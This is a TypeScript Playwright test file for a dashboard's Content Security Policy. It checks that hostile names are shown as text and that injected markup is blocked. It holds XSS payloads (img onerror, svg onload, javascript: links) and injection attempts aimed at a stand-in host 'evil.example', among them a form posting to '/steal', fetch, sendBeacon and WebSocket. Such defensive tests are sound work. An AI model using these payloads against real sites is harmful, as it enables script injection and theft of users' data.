import type { Page } from "playwright-core";
import * as assert from "uvu/assert";
import type { Row } from "../../../demo/state/table.ts";
import { browserTests } from "../../as/browser-tests.ts";
import { eventually, type Visitor } from "../../as/visitor.ts";

const test = browserTests("policy", { backend: { servers: 3 } });

const hostile = '<img src=x onerror="window.ran=1"><script>window.ran=2</script>"><svg onload=window.ran=3>';
const ran = (page: Page) => page.evaluate("window.ran");

/** Records every violation of the policy. */
const watchViolations = (page: Page) =>
  page.addInitScript(() => {
    const blocked: string[] = [];
    Object.assign(window, { blocked });
    addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
  });
const blocked = (page: Page): Promise<string[]> => page.evaluate("[...window.blocked]");

test("Hostile markup in every name is shown as text, on every page and in every dialog", async (visitor, stage) => {
  await stage.control({ op: "setting", site_name: hostile, oauth2_providers: [hostile] });
  const { state } = stage.backend;
  for (const server of state.servers.all()) {
    await stage.control({ op: "server", id: server.id, name: hostile, note: hostile, public_note: hostile });
    for (const [key, value] of Object.entries(server.host)) {
      if (typeof value === "string") Object.assign(server.host, { [key]: hostile });
    }
  }
  for (const row of state.table<Row>("nat").all()) {
    Object.assign(row, { name: hostile, host: hostile, domain: hostile });
  }
  await watchViolations(visitor.page);
  await visitor.open("login");
  await visitor.sees("heading", hostile);
  await visitor.visits("");
  await visitor.settles();
  await visitor.open("nat?edit=1");
  await eventually(async () =>
    assert.is(await visitor.dialog().find("heading").innerText(), `Edit ${hostile}`),
  );
  await visitor.page.keyboard.press("Escape");
  await visitor.find("button", `Delete ${hostile}`).first().click();
  await eventually(async () =>
    assert.is(await visitor.dialog("Confirm Deletion?").find("listitem").innerText(), hostile),
  );
  await visitor.page.keyboard.press("Escape");
  await visitor.find("button", `Edit ${hostile}`).first().click();
  await visitor.dialog().find("combobox", "Server").click();
  await visitor.page.getByRole("option").first().waitFor();
  assert.is(await ran(visitor.page), undefined);
  await eventually(async () => assert.is(await visitor.page.locator('img[src="x"]').count(), 0));
  assert.equal(await blocked(visitor.page), [], "nothing even tried");
});

test(
  "Markup that found its way into the page would be stopped by the policy",
  async (visitor) => {
    await watchViolations(visitor.page);
    await visitor.visits("nat");
    await visitor.page.evaluate((markup) => {
      document.body.insertAdjacentHTML("beforeend", markup);
      const inline = document.createElement("script");
      inline.textContent = "window.ran = 4";
      document.body.append(inline);
      const link = document.createElement("a");
      link.href = "javascript:window.ran=5";
      document.body.append(link);
      link.click();
      const data = document.createElement("script");
      data.src = "data:text/javascript,window.ran=6";
      document.body.append(data);
      const plugin = document.createElement("object");
      plugin.data = "/dashboard/licences.txt";
      document.body.append(plugin);
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      document.head.append(base);
      const form = document.createElement("form");
      form.action = "https://evil.example/steal";
      document.body.append(form);
      try {
        form.submit();
      } catch {
        // Firefox throws where it blocks.
      }
    }, hostile);
    const wanted = ["script-src-attr", "script-src-elem", "object-src", "base-uri", "form-action"];
    await eventually(async () => {
      const seen = await blocked(visitor.page);
      for (const one of wanted) assert.ok(seen.includes(one), `${one} is not among ${seen.join(", ")}`);
    });
    assert.is(await ran(visitor.page), undefined);
    await eventually(async () =>
      assert.ok((await visitor.page.evaluate(() => document.baseURI)).startsWith(visitor.url)),
    );
  },
  { expects: [/Content.Security.Policy/, /status of 404/] },
);

test(
  "Plain http scripts, eval and foreign workers are blocked even for custom code",
  async (visitor, stage) => {
    const code = `<script src="http://127.0.0.1:1/plain.js"></script>
<script>try { eval("window.ran = 1") } catch { window.evalBlocked = true }</script>
<script>try { new Worker(URL.createObjectURL(new Blob(["1"]))).onerror = () => { window.workerBlocked = true } } catch { window.workerBlocked = true }</script>
<p id="custom" onclick="window.ran=2">custom</p>`;
    await stage.control({ op: "setting", custom_code_dashboard: code });
    await watchViolations(visitor.page);
    await visitor.open("login");
    await visitor.page.locator("#custom").click();
    await eventually(async () =>
      assert.is(await visitor.page.evaluate("window.evalBlocked && window.workerBlocked"), true),
    );
    assert.is(await ran(visitor.page), undefined);
  },
  { expects: [/Content.Security.Policy/, /custom code/] },
);

test(
  "Custom code runs after the page is drawn: scripts in order, also from https, styles, meta and markup",
  async (visitor, stage) => {
    await visitor.context.route("https://cdn.example/**", (route) =>
      route.fulfill({
        contentType: "text/javascript",
        body: "window.order = [...(window.order ?? []), 'external']",
      }),
    );
    const code = `<meta name="x-operator" content="here"><style>body { --custom: 7 }</style>
<script>window.order = [document.querySelector("h1") ? "inline" : "too early"]</script>
<script src="https://cdn.example/widget.js"></script>
<script>throw new Error("a broken snippet")</script>
<div id="badge">badge <script>window.order.push("nested")</script></div>
<script>window.order.push("last")</script>`;
    await stage.control({ op: "setting", custom_code_dashboard: code });
    await visitor.open("login");
    await eventually(async () =>
      assert.equal(await visitor.page.evaluate("window.order"), ["inline", "external", "nested", "last"]),
    );
    await visitor.reads("badge");
    await eventually(async () =>
      assert.is(await visitor.page.locator("meta[name=x-operator]").getAttribute("content"), "here"),
    );
    await eventually(async () =>
      assert.is(
        await visitor.page.evaluate(() =>
          getComputedStyle(document.body).getPropertyValue("--custom").trim(),
        ),
        "7",
      ),
    );
    await visitor.signsIn();
    await visitor.isHome();
    await visitor.settles();
    await eventually(async () =>
      assert.equal(
        await visitor.page.evaluate("window.order"),
        ["inline", "external", "nested", "last"],
        "signing in runs nothing twice",
      ),
    );
    assert.equal(await policies(visitor.page), [firstPolicy], "a second one would keep the other host out");
  },
  { expects: [/requested another host: https:\/\/cdn\.example/, /custom code/] },
);

const evil = "https://evil.example";

/** The attacks that a script or markup in the page would try. */
const attacks = () => {
  const evil = "https://evil.example";
  const say = (what: string) => Reflect.set(window, "ran", what);
  const add = <Tag extends keyof HTMLElementTagNameMap>(
    tag: Tag,
    values: Partial<HTMLElementTagNameMap[Tag]>,
  ): HTMLElementTagNameMap[Tag] =>
    document.body.appendChild(Object.assign(document.createElement(tag), values));
  const blobUrl = (text: string) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
  document.body.insertAdjacentHTML("beforeend", `<img src="x" onerror="window.ran='inline handler'">`);
  add("script", { textContent: "window.ran = 'inline script'" });
  add("script", { src: `${evil}/script.js` });
  add("script", { src: `${evil}/module.js`, type: "module" });
  add("script", { src: "data:text/javascript,window.ran='data script'" });
  add("img", { src: `${evil}/image.png` });
  add("video", { src: `${evil}/video.mp4` });
  add("iframe", { src: `${evil}/frame` });
  add("object", { data: `${evil}/object` });
  add("link", { rel: "stylesheet", href: `${evil}/style.css` });
  add("link", { rel: "prefetch", href: `${evil}/prefetch` });
  add("style", {
    textContent: `@import "${evil}/import.css"; body { background: url("${evil}/background.png") }`,
  });
  document.fonts.add(new FontFace("evil", `url("${evil}/font.woff2")`));
  void document.fonts.load("1px evil").catch(() => undefined);
  document.head.append(Object.assign(document.createElement("base"), { href: `${evil}/` }));
  add("form", { action: `${evil}/form`, method: "post" }).submit();
  void fetch(`${evil}/fetch`).catch(() => undefined);
  navigator.sendBeacon(`${evil}/beacon`);
  for (const open of [
    () => new WebSocket("wss://evil.example/socket"),
    () => new EventSource(`${evil}/events`),
    () => new Worker(blobUrl("fetch('https://evil.example/worker')")),
  ]) {
    try {
      open();
    } catch {
      // Some are refused by an exception, some by an event.
    }
  }
  // Not directly: the test's own call may use eval.
  setTimeout(() => {
    try {
      // biome-ignore lint/security/noGlobalEval: this is what is tried
      eval("window.ran = 'eval'");
    } catch {
      Reflect.set(window, "evalBlocked", true);
    }
  });
  add("script", { src: blobUrl("window.blobRan = true"), onload: () => say("blob script") });
};

/** The policies of the page, the static one first. */
const policies = async (page: Page): Promise<string[]> => {
  const all = await page
    .locator("meta[http-equiv=Content-Security-Policy]")
    .evaluateAll((found) => found.map((one) => (one as HTMLMetaElement).content));
  return all.map((one) => one.replace(/'sha256-[^']+'/, "(boot script)"));
};

const firstPolicy =
  "script-src 'self' (boot script) blob: https:; script-src-attr 'none'; style-src 'self' 'unsafe-inline' https:; " +
  "worker-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'";
const sources =
  "worker-src 'self'; connect-src 'self'; style-src 'self' 'unsafe-inline'; " +
  "img-src 'self' data: blob: https://api.dicebear.com; font-src 'self' data:";
const withoutCode = `default-src 'none'; script-src 'self'; ${sources}`;
const withOwnCode = `default-src 'self' data: blob:; script-src 'self' blob:; ${sources}`;

/** Opens a page and checks its policies, and that the product breaks none of their rules. */
async function isRestricted(visitor: Visitor, path: string, second: string): Promise<void> {
  await visitor.open(path);
  await eventually(async () => assert.equal(await policies(visitor.page), [firstPolicy, second]));
  await visitor.settles();
  assert.equal(await blocked(visitor.page), [], "the product needs nothing else");
}

/** Attacks the open page. Returns when every kind of attack was stopped, without a request that left the browser. */
async function withstands(visitor: Visitor): Promise<void> {
  const asked: string[] = [];
  await visitor.context.route(`${evil}/**`, (route) => {
    asked.push(new URL(route.request().url()).pathname);
    return route.fulfill({ contentType: "text/javascript", body: "window.ran = 'external'" });
  });
  await visitor.page.evaluate(attacks);
  const wanted =
    "base-uri connect-src default-src font-src form-action frame-src img-src media-src object-src " +
    "script-src script-src-attr script-src-elem style-src-elem worker-src";
  await eventually(async () => {
    const seen = new Set(await blocked(visitor.page));
    for (const one of wanted.split(" "))
      assert.ok(seen.has(one), `${one} is not among ${[...seen].join(", ")}`);
  });
  await eventually(async () =>
    assert.ok(await visitor.page.evaluate("window.evalBlocked || window.blobRan"), "the last attack is over"),
  );
  assert.equal(asked, [], "no request left the browser");
  assert.ok((await visitor.page.evaluate(() => document.baseURI)).startsWith(visitor.url));
}

const attacked = {
  expects: [/Content.Security.Policy/, /status of 404/, /requested another host: https:\/\/evil/],
  chromiumOnly: "scripts of a test, which the policy keeps out of Firefox",
};

test(
  "A second policy keeps everything from other hosts out of each page without custom code",
  async (visitor, stage) => {
    await watchViolations(visitor.page);
    await isRestricted(visitor, "login", withoutCode);
    await visitor.signsInByApi();
    await isRestricted(visitor, "terminal/1", withoutCode);
    await isRestricted(visitor, "nat", withoutCode);
    await withstands(visitor);
    assert.is(await ran(visitor.page), undefined);
    assert.is(await visitor.page.evaluate("window.blobRan"), undefined);
    await stage.control({
      op: "setting",
      custom_code_dashboard: '<script src="https://cdn.example/widget.js"></script>',
    });
    await isRestricted(visitor, "nat?safe=1", withoutCode);
  },
  attacked,
);

test(
  "A second policy keeps everything from other hosts out where custom code names none",
  async (visitor, stage) => {
    await stage.control({
      op: "setting",
      custom_code_dashboard:
        "<script>window.own = document.querySelectorAll('meta[http-equiv]').length // nothing else</script>",
    });
    await watchViolations(visitor.page);
    await visitor.signsInByApi();
    await isRestricted(visitor, "nat", withOwnCode);
    await eventually(async () =>
      assert.is(await visitor.page.evaluate("window.own"), 2, "the policy comes before the code"),
    );
    await withstands(visitor);
    await eventually(async () => assert.is(await ran(visitor.page), "blob script"));
  },
  attacked,
);

test.run();
